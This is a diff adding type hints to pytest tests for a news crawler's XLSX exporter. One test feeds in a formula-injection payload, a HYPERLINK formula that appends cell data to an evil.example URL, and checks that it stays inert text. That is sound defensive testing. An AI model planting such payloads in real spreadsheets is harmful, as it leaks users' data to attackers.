@@ -15,6 +15,7 @@ import sys
 import tracemalloc
 from datetime import UTC, date, datetime
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -23,7 +24,9 @@ from crawler.analytics import xlsx
 from crawler.analytics.export import EXPORT_FIELDS, export_articles
 from crawler.analytics.xlsx import MAX_CELL_CHARS, XlsxItemExporter, write_xlsx
 from crawler.items import ArticleItem, SiteStatsItem
+from crawler.storage import ArticleStore
 from tests.analytics.test_export import SEED_PATH, UPU_TITLE
+from tests.fixturetypes import MakePortal, RunIn
 from tests.helpers import FAST, cli_env
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -34,14 +37,16 @@ def workbook(raw: bytes) -> openpyxl.Workbook:
     return openpyxl.load_workbook(io.BytesIO(raw))
 
 
-def records(book: openpyxl.Workbook, sheet: str = "articles") -> tuple[list[str], list[dict]]:
+def records(
+    book: openpyxl.Workbook, sheet: str = "articles"
+) -> tuple[list[str], list[dict[str, Any]]]:
     """(header, rows as {header: cell})."""
     rows = list(book[sheet].iter_rows())
     header = [c.value for c in rows[0]]
     return header, [dict(zip(header, row, strict=True)) for row in rows[1:]]
 
 
-def test_typed_cells_in_vietnam_time(crawled):
+def test_typed_cells_in_vietnam_time(crawled: ArticleStore) -> None:
     out = io.BytesIO()
     assert export_articles(crawled, out, "xlsx") == 9
     book = workbook(out.getvalue())
@@ -79,7 +84,7 @@ def test_typed_cells_in_vietnam_time(crawled):
     assert book["articles"].freeze_panes == "A2"
 
 
-def test_filters_and_fields_apply(crawled):
+def test_filters_and_fields_apply(crawled: ArticleStore) -> None:
     out = io.BytesIO()
     count = export_articles(
         crawled, out, "xlsx", site=["hn-sotttt"], fields=["title", "views"], since=date(2010, 1, 1)
@@ -91,7 +96,7 @@ def test_filters_and_fields_apply(crawled):
     ]
 
 
-def test_scraped_text_stays_text_and_fits_excel(store):
+def test_scraped_text_stays_text_and_fits_excel(store: ArticleStore) -> None:
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
     store.upsert_articles(
         [
@@ -119,14 +124,14 @@ def test_scraped_text_stays_text_and_fits_excel(store):
     assert row["views"].value == str(10**16)  # beyond Excel's 15 digits: exact, as text
 
 
-def test_xlsx_needs_a_binary_stream_and_no_bom(crawled):
+def test_xlsx_needs_a_binary_stream_and_no_bom(crawled: ArticleStore) -> None:
     with pytest.raises(ValueError, match="binary"):
         export_articles(crawled, io.StringIO(), "xlsx")
     with pytest.raises(ValueError, match="byte order mark"):
         export_articles(crawled, io.BytesIO(), "xlsx", bom=True)
 
 
-def test_a_new_sheet_past_the_row_limit(monkeypatch):
+def test_a_new_sheet_past_the_row_limit(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(xlsx, "MAX_ROWS", 3)  # a header and two rows per sheet
     docs = [{"title": f"Tin {i}", "views": i} for i in range(5)]
     out = io.BytesIO()
@@ -141,7 +146,7 @@ def test_a_new_sheet_past_the_row_limit(monkeypatch):
     ]
 
 
-def test_no_article_is_a_header_row(store):
+def test_no_article_is_a_header_row(store: ArticleStore) -> None:
     out = io.BytesIO()
     assert export_articles(store, out, "xlsx", fields=["title", "published_at"]) == 0
     assert list(workbook(out.getvalue())["articles"].values) == [
@@ -169,14 +174,14 @@ def _peak(rows: int) -> int:
     return peak
 
 
-def test_memory_stays_flat_in_the_number_of_rows():
+def test_memory_stays_flat_in_the_number_of_rows() -> None:
     small, large = _peak(200), _peak(2000)
     # a workbook held in memory grows ~10x here (every cell an object, ~3 KB of body per row)
     assert large < small * 1.5 + 256 * 1024, (small, large)
 
 
 # -- the same exporter as a Scrapy feed: items read through itemadapter ----------------------
-def test_dataclass_items_through_itemadapter():
+def test_dataclass_items_through_itemadapter() -> None:
     when = datetime(2021, 3, 15, 3, 20, tzinfo=UTC)
     items = [
         ArticleItem(
@@ -206,7 +211,7 @@ def test_dataclass_items_through_itemadapter():
     ]
 
 
-def test_scrapy_feed_of_a_crawl(make_portal, tmp_path):
+def test_scrapy_feed_of_a_crawl(make_portal: MakePortal, tmp_path: Path) -> None:
     """``scrapy crawl portal`` writing its articles to an .xlsx feed (the project's FEED_EXPORTERS)."""
     portal = make_portal("nd-giaothuy")
     target = tmp_path / "articles.xlsx"
@@ -242,7 +247,7 @@ def test_scrapy_feed_of_a_crawl(make_portal, tmp_path):
 
 
 # -- the command -----------------------------------------------------------------------------
-def test_export_xlsx_command(crawled_dir, tmp_path, run_in):
+def test_export_xlsx_command(crawled_dir: Path, tmp_path: Path, run_in: RunIn) -> None:
     out = tmp_path / "gt.xlsx"
     result = run_in(
         crawled_dir, "export", "--format", "xlsx", "--site", "nd-giaothuy", "--out", str(out)
@@ -263,7 +268,7 @@ def test_export_xlsx_command(crawled_dir, tmp_path, run_in):
     assert len(list(workbook(stdout)["articles"].values)) == 10
 
 
-def test_export_xlsx_to_a_terminal_is_refused(crawled_dir):
+def test_export_xlsx_to_a_terminal_is_refused(crawled_dir: Path) -> None:
     leader, follower = pty.openpty()
     try:
         result = subprocess.run(
@@ -285,7 +290,7 @@ def test_export_xlsx_to_a_terminal_is_refused(crawled_dir):
     ]
 
 
-def test_a_feed_opened_to_append(tmp_path):
+def test_a_feed_opened_to_append(tmp_path: Path) -> None:
     target = tmp_path / "feed.xlsx"
     with target.open("ab") as fresh:  # Scrapy's -o: an empty file opened to append is fine
         write_xlsx(fresh, iter([{"title": "Tin"}]), ["title"])
